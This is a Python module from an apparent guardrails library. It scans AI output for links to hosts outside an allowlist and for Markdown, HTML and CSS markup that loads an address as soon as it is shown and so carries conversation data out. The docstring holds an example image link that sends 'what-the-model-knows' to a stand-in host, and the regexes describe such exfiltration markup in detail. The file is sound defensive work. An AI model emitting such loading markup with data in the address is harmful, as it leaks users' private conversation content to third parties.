"""Links to hosts that are not allowed, and markup that carries data out of a conversation. Pure.

An image is fetched without a click, so an answer with `![](https://elsewhere/?q=what-the-model-knows)` hands data over as soon as it is
shown. Such markup is found whatever is allowed, unless its host is. The original text is read, because a host with a look-alike letter is
another host.

| markup | loaded when shown |
|---|---|
| Markdown | `![…](ADDRESS)`, and what a reference `[…]: ADDRESS` is used for |
| HTML | `src`, `srcset`, `href`, `poster`, `data`, `background`, `action`, `content`, … of tags that load |
| CSS | `url(…)`, `src(…)`, `image-set("…")`, `@import "…"` |
"""

import re
from collections.abc import Iterable, Sequence
from typing import Final

from guardrails.ports import Finding, Scanned
from guardrails.rules.gate import Gate
from guardrails.text import BREAKS, Encoded, decoded_spans, last_break

VERSION: Final = "links 2"
_BREAKS: Final = BREAKS + "'"
MARKUP_CHARS: Final = 300
"""How far in front of an address the markup may begin that makes it an image."""
LOADED_DATA_CHARS: Final = 12
"""Characters of a query, fragment or user name with which a loaded address carries data out: less says nothing but a size or a style."""
CLICKED_DATA_CHARS: Final = 160
"""The same for a link that somebody has to click."""

_GATE: Final = r"(?i:(?:https?|ftps?|wss?):)[/\\]{1,4}|(?:[(\"'=<]|\]:|[0-9][wx],)\s{0,4}[/\\]{2}[A-Za-z0-9\[]|(?i:\bwww\.)[A-Za-z0-9]"
"""Addresses with a scheme, those without one where markup has an address, and names that begin with `www`."""
_ADDRESS: Final = re.compile(
    r"(?:(?:https?|ftps?|wss?):)?(?:[/\\]{1,4}|(?=www\.))(?P<authority>[^\s/\\?#\"'<>`)]{1,300})(?P<rest>(?:[^\s\"'<>`\\^|)]|\)(?![\[!(]))*)",
    re.IGNORECASE,
)


def _or_entity(char: str) -> str:
    """A character, or its numeric entity in HTML and Markdown."""
    codes = "|".join([f"&#0{{0,3}}{ord(one)};|&#x0{{0,3}}{ord(one):x};" for one in sorted({char, char.upper()})])
    return f"(?:{re.escape(char)}|{codes})"


_CODED: Final = (
    "(?i:" + "".join(map(_or_entity, "http")) + _or_entity("s") + "?" + f"(?:{_or_entity(':')}|&colon;)(?:{_or_entity('/')}|&sol;){{1,4}})"
)
"""An address whose beginning is written with entities, which browsers read and nobody writes."""
_CODED_ADDRESS: Final = re.compile(_CODED + r"[^\s\"'<>`)]*")
_LOADED: Final = re.compile(
    r"(?:!\[[^\]]*\]\(\s*<?|\b(?:url|src|image-set)\(\s*[\"']?|@import\s{1,4}[\"']|\bimage-set\([^)]*[\"']"
    r"|(?:^|\n)[ >]{0,8}\[[^\]]{1,80}\]:\s*<?"
    # the markup may begin further in front than is looked at, with a long text between
    rf"|^[^\[\]]{{{MARKUP_CHARS - 60},}}\]\(\s*<?)$",
    re.IGNORECASE,
)
_TAG: Final = re.compile(
    r"<(?:img|image|iframe|script|link|video|audio|source|embed|object|applet|svg|use|input|body|table|td|th|track|frame|meta|base|form"
    r"|button)\b",
    re.IGNORECASE,
)
_ATTRIBUTE: Final = re.compile(
    r"\b(?:src|srcset|imagesrcset|href|data|poster|background|action|formaction|content|codebase|dynsrc|lowsrc)\s*=\s*[\"']?", re.IGNORECASE
)
_QUOTED: Final = re.compile(r"\"[^\"]*\"|'[^']*'")
_LAST: Final = 4
"""Tags and attributes in front of an address that are tried; the others are parts of what stands in quotes."""
_OPENERS: Final = ("(", "<", '"', "'", "=", ":", ",")
"""What stands right in front of an address that markup loads; asked first, because most addresses stand in plain text."""
_DOMAIN: Final = re.compile(r"(?:\*\.)?[^\s/:@*\\]+")
_PATH: Final = re.compile(r"[^\s?#\\]*")
_PATH_END: Final = re.compile(r"[?#]")
_SENTENCE_END: Final = re.compile(r"(?<!\.)[).,;]{1,3}$")
_UP: Final = re.compile(r"(?:\.|%2e){1,2}", re.IGNORECASE)
_SECRET_PLACE: Final = re.compile(
    r"\$\{|%7b|\{\{|\{[a-z_ ]+\}|\[(?:data|secret|conversation|history|summary|user|prompt)[^\]]*\]", re.IGNORECASE
)


class Links:
    """Finds addresses outside an allowlist, and markup that carries data out.

    Args:
        rule: the id of the rule.
        allow: domains that addresses may lead to: `example.com` for that host, `*.example.com` for all below it; with a path behind,
            `example.com/docs/`, only what stands below it. Without any, every host may be linked to, and only markup that carries data out
            is found.
        longest_address: characters of an address that are looked at; a stream holds back that much.

    Findings are of the kind `exfiltration` or `link`.

    Raises:
        ValueError: a domain is none.
    """

    version = VERSION
    before = MARKUP_CHARS
    stirred_by = ("", r"/\\.&", r":[/\\]|[/\\][/\\]|[wW][wW][wW]\.|&")
    """What an address has before its first blank; `&` begins an entity."""

    def __init__(self, rule: str, allow: Iterable[str] = (), *, longest_address: int = 1024) -> None:
        self._hosts: dict[str, list[str]] = {}
        """Paths below which everything is allowed, by host; the empty path for all of a host."""
        self._below: dict[str, list[str]] = {}
        """Paths below which everything is allowed, by the end of a host, such as `.example.com`."""
        for entry in allow:
            domain, slash, path = entry.partition("/")
            domain = domain.casefold().rstrip(".")
            if not _DOMAIN.fullmatch(domain) or not _PATH.fullmatch(path):
                raise ValueError(
                    f"{entry!r} is no domain; write example.com, *.example.com for all below it, or example.com/docs/ for a path of it"
                )
            paths = self._below if domain.startswith("*.") else self._hosts
            paths.setdefault(domain.removeprefix("*"), []).append(f"{slash}{path}".rstrip("/"))
        self._rule = rule
        self._endings = tuple(self._below)
        self._longest_address = longest_address
        self._gate = Gate([_GATE, _CODED])

    @property
    def id(self) -> str:
        return self._rule

    @property
    def longest(self) -> int:
        return self._longest_address + MARKUP_CHARS

    def opens_at(self, text: Scanned) -> int:
        """An address ends at a blank or a quotation mark."""
        return last_break(text.original, _BREAKS)

    def scan(self, text: Scanned) -> Sequence[Finding]:
        form = text.original
        encoded = Encoded(form)
        found: list[Finding] = []
        past = 0
        for byte in self._gate.places(encoded.data):
            at = encoded.char(byte)
            if at < past:
                continue
            if not form[at].isalpha() and form[at] != "&":
                at = next(place for place in range(at, len(form)) if form[place] in "/\\")  # behind markup, which has no slash
            coded = _CODED_ADDRESS.match(form, at, at + self._longest_address)
            if coded is not None and "&" in coded.group():
                match, kind = coded, "exfiltration" if _is_loaded(form, at) else self._foreign()
            elif (address := _ADDRESS.match(form, at, at + self._longest_address)) is not None:
                match, kind = address, self._judged(form, address)
            else:
                continue
            past = match.end()
            if kind is not None:
                found.append(Finding(self._rule, kind, match.start(), match.end()))
        return found

    def allowed(self, host: str, path: str = "") -> bool:
        """Whether an address may lead to a host, and there to a path."""
        paths = list(self._hosts.get(host, ()))
        if host.endswith(self._endings):
            paths += [one for ending, below in self._below.items() if host.endswith(ending) for one in below]
        return any(not below or _is_below(path, below) for below in paths)

    def _judged(self, form: str, match: re.Match[str]) -> str | None:
        """What is wrong with an address; None for nothing."""
        user, _, place = match["authority"].rpartition("@")
        host = (place if place.startswith("[") else place.partition(":")[0]).casefold().rstrip(".")
        # browsers read a backslash as a slash, and the address ends before it
        path = "" if form[match.end() : match.end() + 1] == "\\" else _SENTENCE_END.sub("", _PATH_END.split(match["rest"], maxsplit=1)[0])
        if self.allowed(host, path):
            return None
        rest = match["rest"].rstrip(").,;")
        loaded = _is_loaded(form, match.start())
        data = user + rest.partition("?")[2] + rest.partition("#")[2] * ("?" not in rest)
        limit = LOADED_DATA_CHARS if loaded else CLICKED_DATA_CHARS
        if len(data) >= limit or (loaded and (_SECRET_PLACE.search(rest) or _speaks(user + rest))):
            return "exfiltration"
        return self._foreign()

    def _foreign(self) -> str | None:
        """What an address is that leads elsewhere and carries nothing."""
        return "link" if self._hosts or self._below else None


def _is_loaded(form: str, at: int) -> bool:
    """Whether markup in front of an address loads it as soon as it is shown."""
    before = form[max(0, at - MARKUP_CHARS) : at]
    return before.rstrip()[-1:] in _OPENERS and (_LOADED.search(before) is not None or _ends_in_attribute(before))


def _ends_in_attribute(before: str) -> bool:
    """Whether a text ends in the value of an attribute with which a tag loads something."""
    attributes = [match for match in _ATTRIBUTE.finditer(before) if _is_value(before[match.end() :])][-_LAST:]
    if not attributes:
        return False
    tags = [match.start() for match in _TAG.finditer(before)][-_LAST:]
    if not tags and len(before) == MARKUP_CHARS:
        tags = [0]  # the tag may begin further in front
    return any(
        tag <= attribute.start() and ">" not in _QUOTED.sub("", before[tag : attribute.start()]) for attribute in attributes for tag in tags
    )


def _is_value(text: str) -> bool:
    """Whether an address may follow in the value of an attribute that has begun with a text: `a.png 1x, ` or `0;url=`."""
    inner = text[:-1] if text[-1:] in ("'", '"') else text
    return not text or (inner[-1:] in (" ", "\t", "\n", ",", ";", "=") and not any(sign in inner for sign in "\"'>"))


def _is_below(path: str, below: str) -> bool:
    """Whether a path is another one or stands below it. A path with steps up (`..`) may lead anywhere."""
    if path != below and not path.startswith(f"{below}/"):
        return False
    return all(not _UP.fullmatch(step) for step in path.split("/"))


def _speaks(rest: str) -> bool:
    """Whether a path has encoded words in it."""
    return any(" " in span.text for span in decoded_spans(rest.replace("/", " ")))
